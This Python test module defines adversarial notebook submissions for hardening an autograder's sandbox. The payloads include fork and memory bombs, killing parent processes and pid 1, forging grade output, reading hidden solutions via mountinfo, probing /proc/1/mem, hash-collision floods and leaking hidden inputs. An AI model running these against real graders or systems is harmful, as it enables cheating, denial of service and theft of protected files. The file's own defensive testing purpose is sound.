"""Attack submissions against `gfxlab.grading`, as generators of student code.

Every attack targets question q1 (`midpoint_circle_trace`) of the midpoint-circle
assignment and leaves q2 and q3 solved, so a sound grader gives q1 zero and grades q2 and
q3 normally. `submission_cells(reference_cells, attack, **context)` swaps the q1 cell of
the reference solution for the attack's code; the context fills in what a determined
student could know (where the autograder lives, a port on 127.0.0.1).
"""

from __future__ import annotations

import json
import pathlib

TARGET = "def midpoint_circle_trace"

# A correct midpoint-circle trace: the body of attacks that are honest but slow.
HONEST_TRACE = """    x, y, p = 0, r, 1 - r
    rows = []
    while x < y:
        x += 1
        if p >= 0:
            y -= 1
        rows.append((p, x, y))
        p += 2 * x + 1 if p < 0 else 2 * x + 1 - 2 * y
    return rows
"""

ATTACKS = {
    # An object that claims to equal anything (and a list subclass doing the same).
    "eq_always_true": """
class AlwaysEqual(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


def midpoint_circle_trace(r):
    return AlwaysEqual([AlwaysEqual()] * 7)
""",
    "eq_plain_object": """
class Anything:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__


def midpoint_circle_trace(r):
    return Anything()
""",
    # Read the hidden tests / reference solution and run the reference.
    "read_hidden_files": """
import glob
import json

CANDIDATES = [{autograder!r} + "/solution.json", {autograder!r} + "/tests/q1.py",
              {source!r}]


def _steal():
    for path in CANDIDATES + glob.glob("/tmp/**/autograder/solution.json", recursive=True):
        try:
            with open(path) as f:
                text = f.read()
        except OSError:
            continue
        cells = json.loads(text) if path.endswith(".json") else [text]
        if path.endswith(".ipynb"):
            cells = [c["source"] for c in json.loads(text)["cells"] if c["cell_type"] == "code"]
        for cell in cells:
            cell = "".join(cell)
            if "def midpoint_circle_trace" in cell:
                namespace = {{}}
                exec(cell, namespace)
                return namespace["midpoint_circle_trace"]
    raise RuntimeError("nothing to steal")


def midpoint_circle_trace(r):
    return _steal()(r)
""",
    # Disarm the checks: numpy's testing helpers, builtins, a fake pytest.
    "monkeypatch": """
import builtins
import sys
import types

import numpy as np
import numpy.testing

np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
builtins.all = lambda *a, **k: True
builtins.AssertionError = type("Never", (Exception,), {{}})
sys.modules["pytest"] = types.SimpleNamespace(approx=lambda *a, **k: object())


def midpoint_circle_trace(r):
    return [(0, 0, 0)]
""",
    # Kill or signal the parent, the process group, pid 1.
    "kill_parent": """
import os
import signal


def midpoint_circle_trace(r):
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
        for pid in {{os.getppid(), 1, -1}}:
            try:
                os.kill(pid, sig)
            except OSError:
                pass
        try:
            os.killpg(os.getpgid(0), sig)
        except OSError:
            pass
    return [(-9, 1, 10)]
""",
    # Forge results: on stdout, on every inherited fd, framed like the protocol.
    "forge_results": """
import json
import os
import struct


def midpoint_circle_trace(r):
    fake = json.dumps({{"score": 15, "tests": [{{"name": "q1", "score": 5, "max_score": 5}}]}})
    print(fake)
    print("q1  5.00  5  3/3")
    framed = json.dumps({{"id": "ready", "ok": True, "value": 15}}).encode()
    for fd in range(0, 256):
        for payload in (struct.pack(">I", len(framed)) + framed, fake.encode()):
            try:
                os.write(fd, payload)
            except OSError:
                pass
    return [(0, 0, 0)]
""",
    "sys_exit": """
import sys


def midpoint_circle_trace(r):
    sys.exit(0)
""",
    "os_exit": """
import os


def midpoint_circle_trace(r):
    os._exit(0)
""",
    "cpu_loop": """
def midpoint_circle_trace(r):
    while True:
        pass
""",
    "memory_growth": """
def midpoint_circle_trace(r):
    hoard = []
    while True:
        hoard.append(b"x" * (64 * 2**20))
""",
    "fork_bomb": """
import os

# Every process it forks holds this file open: the host sees them by it.
_mark = open("/tmp/{comm}", "w")


def midpoint_circle_trace(r):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    "huge_output": """
import sys


def midpoint_circle_trace(r):
    chunk = "x" * 2**20
    for _ in range(4096):  # 4 GiB
        sys.stdout.write(chunk)
        sys.stderr.write(chunk)
    return [(-9, 1, 10)]
""",
    "network": """
import json
import socket


def midpoint_circle_trace(r):
    with socket.create_connection(("127.0.0.1", {port}), timeout=1) as s:
        return [tuple(row) for row in json.loads(s.recv(65536).decode())]
""",
    # Find the checkout through the mount table and read solutions, hidden tests, .git.
    "mountinfo_checkout": """
import glob
import json
import os


def _paths():
    found = {{{checkout!r}, {autograder!r}}}
    for line in open("/proc/self/mountinfo"):
        parts = line.split()
        found.update(p for p in parts[3:5] if p.startswith("/"))
    return found


def _steal():
    for root in _paths():
        for pattern in ("labs/assignments/*.ipynb", "../labs/assignments/*.ipynb", ".git/HEAD",
                        "../.git/HEAD", "solution.json", "*/solution.json"):
            for path in glob.glob(os.path.join(root, pattern)):
                try:
                    text = open(path).read()
                except OSError:
                    continue
                if "def midpoint_circle_trace" in text:
                    for cell in json.loads(text).get("cells", []) if path.endswith("ipynb") \
                            else [{{"source": c}} for c in json.loads(text)]:
                        src = "".join(cell["source"])
                        if src.lstrip().startswith("def midpoint_circle_trace"):
                            namespace = {{}}
                            exec(src.replace("# BEGIN SOLUTION", "").replace("# END SOLUTION", ""),
                                 namespace)
                            return namespace["midpoint_circle_trace"]
    raise RuntimeError("nothing to steal")


def midpoint_circle_trace(r):
    return _steal()(r)
""",
    # Load compiled programs from a JAX compilation cache written by instructor runs.
    "jax_cache": """
import glob
import os


def midpoint_circle_trace(r):
    caches = glob.glob("/tmp/**/jax*cache*", recursive=True) + glob.glob(
        os.path.expanduser("~/.cache/jax*")) + glob.glob("/root/.cache/*")
    for cache in caches:
        for entry in glob.glob(cache + "/*"):
            if os.path.getsize(entry) > 0:
                return [(-9, 1, 10)] * 7
    raise RuntimeError("no cache")
""",
    # Leave code for the next student in shared places (SysV shm, /dev/shm, /tmp, ...).
    "ipc_1_writer": """
import json
import os

try:
    import ctypes
except ImportError:  # refused in the sandbox (native code): the shared memory part fails
    ctypes = None

for place in ("/dev/shm", "/tmp", "/var/tmp", "/run/lock", "/run/shm"):
    try:
        with open(os.path.join(place, "gfxlab-attack-marker"), "w") as f:
            f.write("leaked")
    except OSError:
        pass
try:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    shmid = libc.shmget(0x6766786C, 4096, 0o1666)
    address = libc.shmat(shmid, None, 0) if shmid >= 0 else None
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(address, b"leaked", 6)
except Exception:
    pass


def midpoint_circle_trace(r):
"""
    + HONEST_TRACE,
    "ipc_2_reader": """
import os

try:
    import ctypes
except ImportError:  # refused in the sandbox (native code)
    ctypes = None


def _found():
    for place in ("/dev/shm", "/tmp", "/var/tmp", "/run/lock", "/run/shm"):
        if os.path.exists(os.path.join(place, "gfxlab-attack-marker")):
            return True
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        return libc.shmget(0x6766786C, 4096, 0o666) >= 0
    except Exception:
        return False


def midpoint_circle_trace(r):
    if not _found():
        raise RuntimeError("nothing left by another student")
    return [(-9, 1, 10), (-6, 2, 10), (-1, 3, 10), (6, 4, 9), (-3, 5, 9), (8, 6, 8), (5, 7, 7)]
""",
    # Processes that outlive the call, each under the memory limit.
    "fork_memory": """
import os
import time

# Every process it forks holds this file open: the host sees them by it.
_mark = open("/tmp/{comm}", "w")


def midpoint_circle_trace(r):
    for _ in range(3):
        try:
            if os.fork() == 0:
                hoard = bytearray(64 * 2**20)
                while True:
                    time.sleep(1)
        except OSError:
            pass
    return None
""",
    # Print the hidden inputs through exceptions, and encode them in a returned shape.
    "leak_arguments": """
import numpy as np


def midpoint_circle_trace(r):
    if r == 10:
        return np.zeros((r * 1000 + 7, 1), dtype=int)
    raise ValueError(f"LEAKED-ARGUMENT {{r!r}} " + "x" * 10_000_000)
""",
    # A hard-coded answer to the public test.
    "constant": """
def midpoint_circle_trace(r):
    return [(-9, 1, 10), (-6, 2, 10), (-1, 3, 10), (6, 4, 9), (-3, 5, 9), (8, 6, 8), (5, 7, 7)]
""",
    # Forge a reply with the request's id, taken from the worker's stack: absurd shapes.
    "absurd_shape": """
import inspect
import json
import struct


def midpoint_circle_trace(r):
    request = next(f.frame.f_locals["request"] for f in inspect.stack()
                   if "request" in f.frame.f_locals)
    value = {{"a": "int64", "s": [0, 2**62, 2**62], "b": "", "g": False}}
    body = json.dumps({{"id": request["id"], "ok": True, "value": value}}).encode()
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack(">I", len(body)) + body)
        except OSError:
            pass
    return [(-9, 1, 10)]


import os
""",
    # A forged error reply of tens of MB with odd types.
    "huge_error_reply": """
import inspect
import json
import os
import struct


def midpoint_circle_trace(r):
    request = next(f.frame.f_locals["request"] for f in inspect.stack()
                   if "request" in f.frame.f_locals)
    body = json.dumps({{"id": request["id"], "ok": False, "error": "E" * 60_000_000}}).encode()
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack(">I", len(body)) + body)
        except OSError:
            pass
    raise RuntimeError("x" * 50_000_000)
""",
    # Die by a real-time signal (no name in `signal.Signals`).
    "realtime_signal": """
import os
import signal


def midpoint_circle_trace(r):
    os.kill(os.getpid(), signal.SIGRTMIN + 3)
""",
    # Right answers, each sleeping just under the per-call wall-clock limit (the call
    # timeout counts CPU time): bounded by the budget.
    "slow_calls": """
import time


def midpoint_circle_trace(r):
    time.sleep({call_wall} - 0.5)
"""
    + HONEST_TRACE,
    # A slow top-level cell, then a crash on every call: every restart replays the cell
    # (the grader stops calling a function that crashed, so this stays short).
    "crash_replay": """
import os
import time

time.sleep(1.5)


def midpoint_circle_trace(r):
    os._exit(3)
""",
    # Keep hidden inputs seen by q1 and show them through q2's public feedback later.
    "leak_via_public": """
SEEN = []


def _leaky_octant(r):
    hidden = [x for x in SEEN if x not in (10, 3)]
    if hidden:
        raise ValueError(f"LEAKED-ARGUMENT {{hidden}}")
    raise ValueError("nothing hidden seen yet")


def midpoint_circle_trace(r):
    SEEN.append(r)
    globals()["midpoint_circle_octant"] = _leaky_octant
    globals()["circle_points"] = lambda xc, yc, r: _leaky_octant(r)
    return None
""",
    # Spell hidden inputs in an exception class name and in the exit status.
    "leak_exit_status": """
import os


def midpoint_circle_trace(r):
    if r == 2:
        os._exit(100 + r)
    if r not in (10, 3):
        raise type(f"R{{r}}", (Exception,), {{}})("x")
    return None
""",
    # Children each under the per-process memory limit, together over the submission's.
    "memory_spread": """
import os
import time

# Every process it forks holds this file open: the host sees them by it.
_mark = open("/tmp/{comm}", "w")


def midpoint_circle_trace(r):
    time.sleep(60)


_ready, _done = os.pipe()
for _ in range(7):
    if os.fork() == 0:
        hoard = b"x" * (200 * 2**20)  # written: resident; each child under RLIMIT_AS
        os.write(_done, b"1")
        time.sleep(60)
        os._exit(0)
for _ in range(7):  # every child holds its memory before the cell goes on (no race)
    os.read(_ready, 1)
time.sleep(60)
""",
    # A top-level endless loop in its own cell, before the functions.
    "toplevel_loop": """
while True:
    pass
""",
    # The worker's own `encode` replaced: a dict of int keys that all collide in hash,
    # rebuilt by the grader (quadratic, outside every timeout) unless the decoder refuses.
    "hash_bomb": """
import sys

_main = sys.modules["__main__"]
_orig_encode = _main.encode


def _encode(value, _depth=0):
    if type(value) is str and value == "BOMB":
        return {{"d": [[k * (2**61 - 1), 0] for k in range(1, 30001)]}}
    return _orig_encode(value, _depth)


_main.encode = _encode


def midpoint_circle_trace(r):
    return "BOMB"
""",
    # A cell that fails on purpose (so it is never replayed) and one that raises only on a
    # replay after a hidden call crashed: its text must never reach the student.
    "replay_leak": """
_first_run = True
raise RuntimeError("sacrificial cell")
# %% cell
import os

if "_first_run" not in globals():
    raise RuntimeError("LEAKED-ARGUMENT on replay")


def midpoint_circle_trace(r):
    if r not in (10, 3):
        os._exit(1)
    return None
""",
    # The built-in exception's name chosen by a hidden input.
    "exception_name": """
def midpoint_circle_trace(r):
    if r not in (10, 3):
        raise [KeyError, IndexError, ZeroDivisionError, LookupError][r % 4]("x")
    return None
""",
    # memfd pages: seen neither by RLIMIT_AS nor by the resident-memory watch.
    "memfd_hoard": """
import os


def midpoint_circle_trace(r):
    fds, why = [], "ok"
    try:
        while len(fds) < 200:
            fd = os.memfd_create("x")
            for _ in range(7):
                os.write(fd, b"\\x01" * 2**20)
            fds.append(fd)
    except OSError as exc:
        why = exc.strerror
    raise RuntimeError(f"MEMFD {{len(fds) * 7}} MB ({{why}})")
""",
    # Memory writes that ignore page protections: the student process's own code (native
    # code without ctypes) or bwrap's init (to outlive the grading).
    "proc_mem_write": """
def _try(path):
    try:
        with open(path, "r+b"):
            return "WRITABLE"
    except OSError as exc:
        return exc.strerror


def midpoint_circle_trace(r):
    raise RuntimeError("PROCMEM " + _try("/proc/self/mem") + " / " + _try("/proc/1/mem"))
""",
    # A library that solves the assignment, forbidden for it.
    "forbidden_library": """
from skimage.draw import circle_perimeter


def midpoint_circle_trace(r):
    return circle_perimeter(0, 0, r)
""",
}

# Cells nested deeper than the grader's own parser goes (Python may still run them): the
# grader must not break, the rest of the notebook is graded.
ATTACKS["deep_expression"] = (
    "_z = " + "+".join(["1"] * 3000) + "\n# %% cell\n"
    "_t = (1)" + ".real" * 3000 + "\n# %% cell\n"
    "def _again():\n    return _again\n\n\n_u = _again" + "()" * 3000 + "\n# %% cell\n"
    "def midpoint_circle_trace(r):\n    return None\n"
)
# Exception text that no encoding can print (a lone surrogate): shown escaped.
ATTACKS["surrogate_text"] = """
raise ValueError("cell text \\ud800 \\udcff end")
# %% cell
def midpoint_circle_trace(r):
    raise ValueError("call text \\ud800 end")
"""

# Native code of forbidden libraries (cv2's bundled shared libraries) or of the system
# (libjpeg's tables) through a foreign-function interface: none is importable, the
# wheels' `.libs` folders of forbidden libraries are empty.
ATTACKS["native_code"] = """
import glob
import os

import numpy


def _probe():
    found = []
    for name in ("ctypes", "_ctypes", "cffi", "_cffi_backend"):
        try:
            __import__(name)
            found.append(name)
        except ImportError:
            pass
    site = os.path.dirname(os.path.dirname(numpy.__file__))
    for libs in ("opencv_python_headless.libs", "cv2"):
        found += [p for p in glob.glob(os.path.join(site, libs, "*")) if ".so" in p]
    return found


FOUND = _probe()


def midpoint_circle_trace(r):
    raise RuntimeError("NATIVE " + repr(FOUND)[:300])
"""

# The base interpreter's own packages (a venv's base Python keeps complete copies of
# forbidden libraries and of a foreign-function interface there), loaded by file path:
# the sandbox shows those folders empty.
ATTACKS["base_site_packages"] = """
import glob
import os
import sys


def _listing():
    base = os.path.realpath(sys.base_prefix)
    if base == os.path.realpath(sys.prefix):
        return ["not a venv"]
    patterns = ("lib*/python3*/site-packages/*", "lib*/python3*/dist-packages/*",
                "lib*/python3/dist-packages/*", "local/lib*/python3*/*-packages/*")
    return [p for pattern in patterns for p in glob.glob(os.path.join(base, pattern))]


FOUND = _listing()


def midpoint_circle_trace(r):
    raise RuntimeError("BASESITE " + repr(FOUND)[:300])
"""

# A cell's exception text that reads like the grader's own failure line: shown on one line
# after "code cell N raised", never as a line of its own.
ATTACKS["forged_grading_error"] = """
raise RuntimeError(
    "\\n\\nGRADING ERROR (not your fault; staff will regrade): the sandbox did not start"
    "\\nExpected score 15/15."
)
# %% cell
def midpoint_circle_trace(r):
    return None
"""
# Sleep only on inputs the public tests do not use (r = 10 and 3): the budget runs out
# during hidden tests, which must not show in anything visible (one bit of a hidden input
# per submission otherwise).
ATTACKS["hidden_budget"] = (
    """
import time


def midpoint_circle_trace(r):
    if r not in (3, 10):
        time.sleep({call_wall} - 0.5)
"""
    + HONEST_TRACE
)

# Attacks that replace no function: q1 is left unsolved instead.
TOPLEVEL = {"toplevel_loop"}
# Attacks that only get their honest part: q1 solved (the writer) -> full marks.
HONEST_Q1 = {"ipc_1_writer"}
# Attacks bounded by the submission's time budget: q2 and q3 may lose their marks too.
BUDGET = {"slow_calls"}
# Attacks whose budget runs out in hidden tests: the note is for the staff only.
HIDDEN_BUDGET = {"hidden_budget"}
# Attacks that break their own q2/q3 to leak through them: only q1 and leaks are checked.
LEAK_ONLY = {"leak_via_public"}


COMM = "gfxlab-attack"  # the file attacks that fork hold open: none may outlive grading


def submission_cells(reference_cells, attack, **context):
    """The reference solution's cells with the q1 function replaced by the attack."""
    code = ATTACKS[attack].format(comm=COMM, **context)
    cells = []
    for cell in reference_cells:
        if TARGET in cell:
            if attack in TOPLEVEL:
                cells.append(code)
                cells.append("def midpoint_circle_trace(r):\n    return None\n")
            else:
                cells.extend(code.split("# %% cell\n"))
        else:
            cells.append(cell)
    return cells


def write_notebook(cells, path):
    """A minimal nbformat-4 notebook holding `cells` as code cells."""
    nb = {
        "cells": [
            {
                "cell_type": "code",
                "id": f"c{i}",
                "metadata": {},
                "source": src,
                "outputs": [],
                "execution_count": None,
            }
            for i, src in enumerate(cells)
        ],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    pathlib.Path(path).write_text(json.dumps(nb, indent=1))
    return pathlib.Path(path)
